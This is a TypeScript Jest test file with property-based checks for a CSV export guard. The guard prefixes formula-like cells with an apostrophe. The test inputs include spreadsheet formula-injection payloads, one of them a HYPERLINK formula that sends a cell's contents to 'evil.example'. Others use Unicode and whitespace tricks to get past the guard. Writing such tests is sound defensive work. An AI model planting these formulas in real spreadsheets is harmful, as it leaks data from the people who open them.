import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { csvOf, recordsOf } from '../../src/domain/csv';
import { guardFormula } from '../../src/domain/csv-guard';

/** Reads RFC 4180 independently of our code. */
const parse = (csv: string): string[][] => {
  const rows: string[][] = [];
  let [row, cell, quoted]: [string[], string, boolean] = [[], '', false];
  for (let at = 0; at < csv.length; at++) {
    const sign = csv[at];
    if (quoted) {
      if (sign === '"' && csv[at + 1] === '"') cell += csv[++at];
      else if (sign === '"') quoted = false;
      else cell += sign;
    } else if (sign === '"') quoted = true;
    else if (sign === ',') [row, cell] = [[...row, cell], ''];
    else if (sign === '\r' && csv[at + 1] === '\n') {
      rows.push([...row, cell]);
      [row, cell] = [[], ''];
      at++;
    } else cell += sign;
  }
  return rows;
};

test('texts are unchanged, a text like a formula gets an apostrophe, and numbers stay numbers', () => {
  const cells = fc.array(fc.oneof(fc.string(), fc.double({ noNaN: true }), fc.boolean()), {
    minLength: 1,
    maxLength: 5,
  });
  fc.assert(
    fc.property(fc.array(cells, { minLength: 1 }), (rows) => {
      const safe = (cell: string | number | boolean): string =>
        typeof cell === 'string' ? guardFormula(cell) : String(cell);
      expect(parse(csvOf(rows).slice(1))).toEqual(rows.map((row) => row.map(safe)));
    }),
  );
});

test.each([
  '=IMPORTDATA("x")',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("http://evil.example/?x="&D2,\n"click")',
  '@SUM(1)\n+1',
  '\n=1+1',
  '  =1',
  '\u200b=1',
  '＝1',
  '＋1',
  '＠SUM(1)',
])('no cell of a CSV file begins like %j', (text) => {
  expect(csvOf([[text, -5]])).toContain(`'${text}`.replace(/"/g, '""'));
  expect(csvOf([[text, -5]])).toContain(',-5\r\n');
});

test('records have one name for every cell', () => {
  expect(
    recordsOf([
      ['A', '', 'A'],
      ['=x', 2, true],
    ]),
  ).toEqual([{ A: '=x', 'Column (2)': 2, 'A (3)': true }]);
});
